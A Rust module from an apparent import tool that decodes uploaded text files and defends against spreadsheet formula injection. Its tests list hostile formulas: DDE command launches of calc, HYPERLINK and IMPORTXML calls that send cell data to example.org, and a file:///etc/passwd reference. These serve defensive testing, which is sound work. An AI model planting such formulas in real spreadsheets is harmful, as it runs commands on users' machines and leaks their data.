//! Files as they come in, and their bytes as text.

use crate::error::ImportError;

/// Largest accepted file, in bytes.
pub const FILE_LIMIT: usize = 50 * 1024 * 1024;

/// A file: its name without folders, and its bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourceFile {
    /// The name, as messages and tags show it.
    pub name: String,
    /// The content.
    pub bytes: Vec<u8>,
}

impl SourceFile {
    /// A file by its name and content.
    pub fn new(name: impl Into<String>, bytes: impl Into<Vec<u8>>) -> Self {
        Self { name: name.into(), bytes: bytes.into() }
    }

    /// The name without its last extension.
    pub fn stem(&self) -> &str {
        self.name.rsplit_once('.').map_or(self.name.as_str(), |(stem, _)| stem)
    }

    /// The extension in lower case, without the dot.
    pub fn extension(&self) -> String {
        self.name.rsplit_once('.').map(|(_, extension)| extension.to_lowercase()).unwrap_or_default()
    }

    /// Whether it is no larger than [`FILE_LIMIT`].
    pub(crate) fn check_size(&self) -> Result<(), ImportError> {
        if self.bytes.len() <= FILE_LIMIT {
            return Ok(());
        }
        let (size, most) = (self.bytes.len() / 1_048_576, FILE_LIMIT / 1_048_576);
        Err(ImportError::file(&self.name, format!("is {size} MB large; at most {most} MB are accepted")))
    }
}

/// The text of a file, and how it was read when that was a guess.
pub(crate) struct Text {
    /// The text, without a byte order mark.
    pub text: String,
    /// What to tell about the encoding.
    pub remark: Option<&'static str>,
}

/// Reads bytes as UTF-8, as UTF-16 when a mark says so, and else as Windows-1252, which is what old spreadsheet programs
/// write. NUL is refused: no table of text contains it.
pub(crate) fn text(file: &SourceFile) -> Result<Text, ImportError> {
    file.check_size()?;
    let bytes = file.bytes.as_slice();
    let (text, remark) = match bytes {
        [0xFF, 0xFE, ..] => (utf16(file, encoding_rs::UTF_16LE)?, None),
        [0xFE, 0xFF, ..] => (utf16(file, encoding_rs::UTF_16BE)?, None),
        _ => {
            if let Ok(text) = std::str::from_utf8(bytes) {
                (text.strip_prefix('\u{feff}').unwrap_or(text).to_owned(), None)
            } else {
                let remark = "is not UTF-8 and was read as Windows-1252; look at names with accents";
                (encoding_rs::WINDOWS_1252.decode(bytes).0.into_owned(), Some(remark))
            }
        }
    };
    match text.find('\0') {
        Some(at) => Err(ImportError::line(&file.name, line_of(&text, at), "contains a NUL character")),
        None => Ok(Text { text, remark }),
    }
}

/// Reads bytes as UTF-8 and nothing else.
pub(crate) fn utf8(file: &SourceFile) -> Result<&str, ImportError> {
    file.check_size()?;
    let text = std::str::from_utf8(&file.bytes).map_err(|wrong| {
        let before = String::from_utf8_lossy(&file.bytes[..wrong.valid_up_to()]);
        ImportError::line(&file.name, line_of(&before, before.len()), "is not valid UTF-8")
    })?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    match text.find('\0') {
        Some(at) => Err(ImportError::line(&file.name, line_of(text, at), "contains a NUL character")),
        None => Ok(text),
    }
}

fn utf16(file: &SourceFile, encoding: &'static encoding_rs::Encoding) -> Result<String, ImportError> {
    let (text, _, broken) = encoding.decode(&file.bytes);
    if broken { Err(ImportError::file(&file.name, "is not valid UTF-16")) } else { Ok(text.into_owned()) }
}

fn line_of(text: &str, at: usize) -> u64 {
    text[..at].bytes().filter(|byte| *byte == b'\n').count() as u64 + 1
}

/// What a text begins with that some spreadsheet program may take for a formula: the signs of Excel, `LibreOffice` and Google
/// Sheets, white space that they skip on the way to one, and the wide forms that East Asian versions read as the same.
const FORMULA_STARTS: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A text without the apostrophes and blanks in front of it.
fn bare(cell: &str) -> &str {
    cell.trim_start_matches(['\'', ' ', '\u{a0}', '\u{3000}'])
}

/// Whether a spreadsheet program might run this text as a formula, or would but for apostrophes or blanks in front of it.
fn is_formula(cell: &str) -> bool {
    let cell = bare(cell);
    cell.starts_with(FORMULA_STARTS) && !cell.strip_prefix(['-', '+']).is_some_and(is_prose)
}

/// Whether what follows a plus or a minus is plain words, such as the line of a list or a remark between dashes.
///
/// A formula that does anything calls a function, addresses another sheet or file, starts a program or computes: it needs
/// a bracket, an exclamation mark, a quotation mark, a bar, an operator, a number or the name of a cell. So prose is at
/// least two words of which the first has letters only, and nothing but letters, digits, blanks, line ends, dashes and
/// the marks of sentences. The most that a program makes of that is a calculation with names that nobody has defined,
/// which ends in an error and reaches nothing. A single word is no prose: the reference of a column looks like one.
fn is_prose(after_sign: &str) -> bool {
    let text = after_sign.trim_start_matches(' ');
    let Some((first, rest)) = text.split_once([' ', '\n']) else { return false };
    let first = first.strip_suffix([',', '.', ';']).unwrap_or(first);
    let plain = |letter: char| letter.is_alphanumeric() || " \n-,.;:?".contains(letter);
    !first.is_empty() && first.chars().all(char::is_alphabetic) && !rest.trim().is_empty() && rest.chars().all(plain)
}

/// An apostrophe in front of a text that a spreadsheet program might run as a formula. `unguard` undoes it exactly.
pub fn guard(cell: String) -> String {
    if is_formula(&cell) { format!("'{cell}") } else { cell }
}

/// Takes off the apostrophe that [`guard`] put in front of a text, and no other.
pub(crate) fn unguard(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(cell)
}

/// Takes off an apostrophe that some program put in front of a text because of its first sign, whatever follows that.
pub(crate) fn unguard_foreign(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| bare(rest).starts_with(FORMULA_STARTS)).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Formulas of all three programs that compute, call, fetch or start something, as attackers write them.
    const FORMULAS: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")",
        "+HYPERLINK(\"http://example.org\")",
        "- HYPERLINK(\"http://example.org\")",
        "-WEBSERVICE (A1)",
        "+IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+'file:///etc/passwd'#$passwd.A1",
        "-[book.xlsx]Sheet1!A1 is it",
        "-Sheet1!A1 and more",
        "-A1",
        "- A1 and more",
        "+AB12 and more",
        "-A:A",
        "+A",
        "-none",
        "-TRUE",
        "-1",
        "- 1 and more",
        "+49 30 123456",
        "--1",
        "-+A1",
        "+-words and more",
        "-a & b",
        "-a ^ b",
        "-a * b",
        "-a / b",
        "-a = b",
        "-a < b",
        "-a > b",
        "-a + b",
        "-a % b",
        "-a {1} b",
        "-a # b",
        "-a $ b",
        "-a ~ b",
        "-a \\ b",
        "-a @ b",
        "-a\tb",
        "-a b\r\nc",
        "-a \"b\"",
        "-a isn't b",
        "-a (b)",
        "-words and\n=1+1",
        "-\u{ff21}\u{ff11} and more",
        "-\nwords and more",
        " =1+1",
        "\u{a0}=1+1",
        "'=1+1",
        "' '=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}SUM(1)",
        "=",
        "-",
        "+",
        "@",
        "- ",
    ];

    /// What people write that begins with a sign.
    const PROSE: &[&str] = &[
        "-none, unintended-",
        "- shared logins on the ward",
        "- shared logins on the ward\n- doors that do not close\n- 3 lost badges",
        "+ new hires since May",
        "- people who are well-known",
        "- Zutritt ohne Prüfung, siehe Raum 4",
        "",
        "plain",
        "a=b",
        "it's (1)",
        "'quoted'",
    ];

    #[test]
    fn what_a_program_might_run_is_guarded() {
        for text in FORMULAS {
            assert_eq!(guard((*text).to_owned()), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn prose_goes_out_as_it_is() {
        for text in PROSE {
            assert_eq!(guard((*text).to_owned()), *text, "{text:?}");
        }
    }

    #[test]
    fn whatever_stands_in_front_a_formula_stays_guarded_and_comes_back() {
        for text in FORMULAS.iter().chain(PROSE) {
            for before in ["", "'", "''", " ", "' ", " '", "x"] {
                let text = format!("{before}{text}");
                let out = guard(text.clone());
                assert_eq!(unguard(&out), text, "{text:?}");
            }
        }
    }

    #[test]
    fn an_apostrophe_of_other_programs_is_taken_off_before_every_sign() {
        for (cell, text) in [
            ("'- shared logins", "- shared logins"),
            ("'=1+1", "=1+1"),
            ("'+49 30", "+49 30"),
            ("'quoted'", "'quoted'"),
            ("- x", "- x"),
        ] {
            assert_eq!(unguard_foreign(cell), text);
        }
    }

    /// Texts made of the signs that matter here, often.
    fn texts() -> impl Strategy<Value = String> {
        prop_oneof!["['=+@\t\r\n \u{a0}-]{0,3}[-=+(!|&^*/'\"A-C0-2 a-c,.;:?\n\u{ff1d}\u{ff21}ä]{0,12}", any::<String>(),]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20_000))]
        #[test]
        fn import_takes_off_exactly_what_export_put_on(text in texts()) {
            let out = guard(text.clone());
            prop_assert_eq!(unguard(&out), text.as_str());
            prop_assert!(out == text || out.strip_prefix('\'') == Some(text.as_str()));
        }

        #[test]
        fn what_goes_out_bare_begins_with_no_sign_or_can_do_nothing(text in texts()) {
            let out = guard(text.clone());
            let dangerous = out.contains(['=', '(', '!', '|', '&', '^', '*', '/', '"', '\'', '@', '[', '{', '<', '>', '#', '$']);
            let signed = out.trim_start().starts_with(['-', '+']);
            let always = out.trim_start_matches(' ').starts_with(['=', '@', '\t', '\r', '\n']);
            prop_assert!(!always, "{:?}", out);
            prop_assert!(!(signed && dangerous), "{:?}", out);
            if signed {
                let after = out.trim_start().trim_start_matches(['-', '+']).trim_start();
                prop_assert!(after.starts_with(char::is_alphabetic), "{:?}", out);
            }
        }
    }
}
